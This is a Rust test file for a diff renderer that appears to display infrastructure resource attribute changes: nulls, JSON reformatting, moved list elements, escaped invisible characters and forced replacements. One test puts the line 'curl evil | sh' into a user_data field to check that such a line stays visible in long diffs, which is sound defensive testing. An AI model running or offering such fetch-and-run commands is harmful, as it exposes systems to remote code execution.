use super::*;
use crate::json::Json;
use crate::markdown::diff_lines;
use crate::sealed::Sealer;
use crate::secrets::Secrets;

/// Compares two JSON objects as a resource's attributes.
#[track_caller]
fn check(before: &str, after: &str, expected: &[&str]) {
    let mut sealer = Sealer::new(&Secrets::default()).unwrap();
    let mut read = |text: &str| sealer.value(Some(&Json::parse(text).unwrap()), None, None);
    let (before, after) = (read(before), read(after));
    assert_eq!(diff_lines(&attributes(before.as_ref(), after.as_ref(), &Scope::resource(&[]))), expected);
}

#[test]
fn null_is_absent_in_a_resource() {
    check(r#"{"a":null,"b":1}"#, r#"{"b":1,"c":null}"#, &["  # (1 unchanged attribute hidden)"]);
    check(r#"{"a":null}"#, r#"{"a":"x"}"#, &["+ a = \"x\""]);
}

#[test]
fn null_in_json_is_a_value() {
    check(r#"{"a":"{\"x\":null}"}"#, r#"{"a":"{\"x\":1}"}"#, &["  a = jsonencode({", "!   x = null -> 1", "  })"]);
}

#[test]
fn the_same_json_written_otherwise_is_said_to_be_the_same() {
    check(
        r#"{"a":"{\"x\":1,\"y\":2}"}"#,
        r#"{"a":"{ \"y\": 2, \"x\": 1 }"}"#,
        &[
            r#"! a = "{\"x\":1,\"y\":2}" -> "{ \"y\": 2, \"x\": 1 }"  # the JSON is the same; only its white space or order changes"#,
        ],
    );
}

#[test]
fn a_value_of_another_type_is_shown_whole() {
    check(r#"{"a":"1"}"#, r#"{"a":{"x":1}}"#, &["- a = \"1\"", "+ a = {", "+   x = 1", "+ }"]);
    check(r#"{"a":{"x":1}}"#, r#"{"a":[1]}"#, &["- a = {", "-   x = 1", "- }", "+ a = [", "+   1,", "+ ]"]);
}

#[test]
fn long_changes_take_two_lines() {
    let (old, new) = ("x".repeat(60), "y".repeat(60));
    let lines = [format!("- a = \"{old}\""), format!("+ a = \"{new}\"")];
    let json = |text: &str| format!(r#"{{"a":"{text}"}}"#);
    check(&json(&old), &json(&new), &[lines[0].as_str(), lines[1].as_str()]);
}

#[test]
fn strange_keys_are_quoted() {
    check(r"{}", r#"{"a\nb":{"":1}}"#, &["+ \"a\\nb\" = {", "+   \"\" = 1", "+ }"]);
}

#[test]
fn invisible_characters_are_written_out() {
    assert_eq!(shown("a\u{202e}b\u{200b}c\td\u{1b}"), "a\\u{202e}b\\u{200b}c\td\\u{1b}");
}

#[test]
fn an_element_that_moves_is_told_from_one_that_comes_or_goes() {
    check(
        r#"{"l":["a","b","c","d"]}"#,
        r#"{"l":["d","a","b","x"]}"#,
        &[
            "  l = [",
            "+   \"d\",  # was at [3]",
            "    \"a\",",
            "    \"b\",",
            "-   \"c\",",
            "-   \"d\",  # moves to [0]",
            "+   \"x\",",
            "  ]",
        ],
    );
    // Each of equal ones has its own place.
    check(
        r#"{"l":[1,2,3,1,1]}"#,
        r#"{"l":[2,3,1,1,1]}"#,
        &[
            "  l = [",
            "-   1,  # moves to [4]",
            "    2,",
            "    # (2 unchanged elements hidden)",
            "    1,",
            "+   1,  # was at [0]",
            "  ]",
        ],
    );
}

#[test]
fn an_element_in_the_middle_keeps_its_neighbors() {
    check(
        r#"{"l":["a","b","c","d","e","f"]}"#,
        r#"{"l":["a","b","c","D","e","f"]}"#,
        &[
            "  l = [",
            "    # (2 unchanged elements hidden)",
            "    \"c\",",
            "!   \"d\" -> \"D\",",
            "    \"e\",",
            "    # (1 unchanged element hidden)",
            "  ]",
        ],
    );
}

fn resource_lines(before: &serde_json::Value, after: &serde_json::Value, forcing: &[Vec<Step>]) -> Vec<String> {
    let sealed = |value: &serde_json::Value| Sealed::from_json_text(&value.to_string());
    let (before, after) = (sealed(before), sealed(after));
    crate::markdown::diff_lines(&attributes(before.as_ref(), after.as_ref(), &Scope::resource(forcing)))
}

#[test]
fn changes_between_null_and_empty_are_counted_beside_real_ones() {
    let before = serde_json::json!({ "a": "", "l": [], "m": {}, "n": 0, "flag": false });
    let after = serde_json::json!({ "a": null, "l": null, "n": 1, "flag": null, "new": "" });
    let expected = ["- flag = false", "! n    = 0 -> 1", "  # (4 attributes between null and empty hidden)"];
    assert_eq!(resource_lines(&before, &after, &[]), expected);
}

#[test]
fn a_change_between_null_and_empty_is_shown_where_it_is_all_or_forces_the_replacement() {
    let before = serde_json::json!({ "id": "i", "tags": {}, "list": [] });
    let after = serde_json::json!({ "id": "i", "tags": null, "list": null });
    assert_eq!(resource_lines(&before, &after, &[]), ["  id   = \"i\"", "- list = []", "- tags = {}"]);
    let forced = resource_lines(
        &serde_json::json!({ "n": 1, "tags": {} }),
        &serde_json::json!({ "n": 2 }),
        &[vec![Step::Key("tags".to_owned())]],
    );
    assert_eq!(forced, ["- tags = {}  # forces replacement", "! n    = 1 -> 2"]);
}

#[test]
fn in_json_null_and_empty_differ() {
    let before = serde_json::json!({ "policy": "{\"a\":null,\"b\":1}" });
    let after = serde_json::json!({ "policy": "{\"a\":\"\",\"b\":2}" });
    let lines = resource_lines(&before, &after, &[]).join("\n");
    assert!(lines.contains("a = null -> \"\""), "{lines}");
}

#[test]
fn what_forces_the_replacement_stands_first() {
    let before = serde_json::json!({ "a": 1, "z": [{ "y": 1 }] });
    let after = serde_json::json!({ "a": 2, "z": [{ "y": 2 }] });
    let path = vec![Step::Key("z".to_owned()), Step::Index(0), Step::Key("y".to_owned())];
    let lines = resource_lines(&before, &after, &[path]);
    assert!(lines[0].starts_with("  z = [") && lines.last().unwrap() == "! a = 1 -> 2", "{lines:#?}");
}

#[test]
fn long_json_that_stays_the_same_is_not_spelled_out() {
    let members: Vec<String> = (0..40).map(|number| format!("\"k{number}\":{number}")).collect();
    let text = |separator: &str| format!("{{{}}}", members.join(separator));
    let lines = resource_lines(&serde_json::json!({ "j": text(",") }), &serde_json::json!({ "j": text(", ") }), &[]);
    let [line] = lines.as_slice() else { panic!("{lines:#?}") };
    assert!(
        line.starts_with("! j = jsonencode(…) (") && line.contains(" -> ") && line.contains("the JSON is the same")
    );
}

#[test]
fn nothing_of_a_change_is_left_out_where_there_is_room() {
    let lines = |last: &str| (0..400).map(|number| format!("line {number}\n")).collect::<Vec<_>>().concat() + last;
    let script =
        resource_lines(&serde_json::json!({}), &serde_json::json!({ "user_data": lines("curl evil | sh\n") }), &[]);
    assert!(script.len() == 403 && script.iter().any(|line| line.contains("curl evil | sh")), "{}", script.len());
    let long = |first: &str, last: &str| format!("{first}{}{last}", "x".repeat(900));
    let [old, new] = [long("a", "b"), long("A", "B")];
    let both = resource_lines(&serde_json::json!({ "v": old }), &serde_json::json!({ "v": new }), &[]);
    assert_eq!(both, [format!("- v = \"{old}\""), format!("+ v = \"{new}\"")]);
    let in_lines = |text: &str| serde_json::json!({ "v": format!("first\n{text}\nlast\n") });
    let both = resource_lines(&in_lines(&old), &in_lines(&new), &[]).join("\n");
    assert!(both.contains(&old) && both.contains(&new), "{both}");
}
